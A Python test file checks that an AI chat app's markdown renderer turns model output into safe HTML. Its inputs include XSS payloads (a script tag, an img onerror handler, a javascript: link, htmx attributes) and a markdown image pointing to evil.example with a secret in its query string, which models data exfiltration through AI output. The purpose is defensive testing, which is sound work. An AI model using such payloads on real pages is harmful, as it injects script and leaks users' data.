"""Model output to safe HTML, whole and while streaming."""

from __future__ import annotations

import random

from conversations.markdown import StreamingRenderer, render_markdown

SAMPLE = """# Title

Some **bold**, a [link](https://example.com) and `code`.

```python
def f(x):
    return x * 2
```

| a | b |
|---|---|
| 1 | 2 |

- one
- two

    indented code

1. first
2. second

> quoted
> text

Last paragraph."""


def test_raw_html_from_the_model_is_shown_as_text() -> None:
    html = render_markdown('<script>alert(1)</script> <img src=x onerror="alert(1)">')
    assert "<script" not in html and "<img" not in html
    assert "&lt;script&gt;" in html


def test_htmx_attributes_in_model_output_cannot_reach_the_page() -> None:
    html = render_markdown('<div hx-get="/c/new" hx-trigger="load">x</div>')
    assert "<div hx-get" not in html


def test_links_open_safely_in_a_new_tab() -> None:
    html = render_markdown("[site](https://example.com)")
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_javascript_links_are_not_linked() -> None:
    assert "<a" not in render_markdown("[x](javascript:alert(1))")


def test_code_blocks_are_highlighted_with_a_language_label_and_a_copy_button() -> None:
    html = render_markdown("```python\nimport os\n```")
    assert '<span class="code-lang">python</span>' in html
    assert 'class="copy-btn"' in html
    assert '<span class="kn">import</span>' in html


def test_code_in_an_unknown_language_is_escaped_plain_text() -> None:
    html = render_markdown("```nolang\n<b>x</b>\n```")
    assert "&lt;b&gt;x&lt;/b&gt;" in html


def test_tables_and_lists_render() -> None:
    html = render_markdown(SAMPLE)
    assert "<table>" in html and "<td>1</td>" in html
    assert "<ul>" in html and "<ol>" in html and "<blockquote>" in html


def test_streaming_in_any_chunks_ends_with_the_same_html_as_a_whole_render() -> None:
    rng = random.Random(4)
    for _ in range(30):
        renderer = StreamingRenderer()
        shown = ""
        position = 0
        while position < len(SAMPLE):
            size = rng.randint(1, 12)
            renderer.feed(SAMPLE[position : position + size])
            position += size
            shown += renderer.update().appended
        assert shown + renderer.tail_html == render_markdown(SAMPLE)


def test_finished_blocks_are_committed_and_only_the_tail_is_rendered_again() -> None:
    renderer = StreamingRenderer()
    renderer.feed("first paragraph\n\nsecond")
    rendered = renderer.update()
    assert rendered.appended == "<p>first paragraph</p>\n"
    assert rendered.tail == "<p>second</p>\n"
    renderer.feed(" grows")
    rendered = renderer.update()
    assert rendered.appended == ""
    assert rendered.tail == "<p>second grows</p>\n"


def test_an_open_code_fence_is_never_split_at_its_blank_lines() -> None:
    renderer = StreamingRenderer()
    renderer.feed("```\na\n\nb\n\nc")
    assert renderer.update().appended == ""
    renderer.feed("\n```\n\nafter")
    rendered = renderer.update()
    assert "a\n\nb\n\nc" in rendered.appended
    assert rendered.tail == "<p>after</p>\n"


def test_images_from_the_model_become_links_not_requests_to_other_servers() -> None:
    html = str(render_markdown("see ![the chart](https://evil.example/?d=secret)"))
    assert "<img" not in html
    assert '<a href="https://evil.example/?d=secret"' in html
    assert "the chart</a>" in html
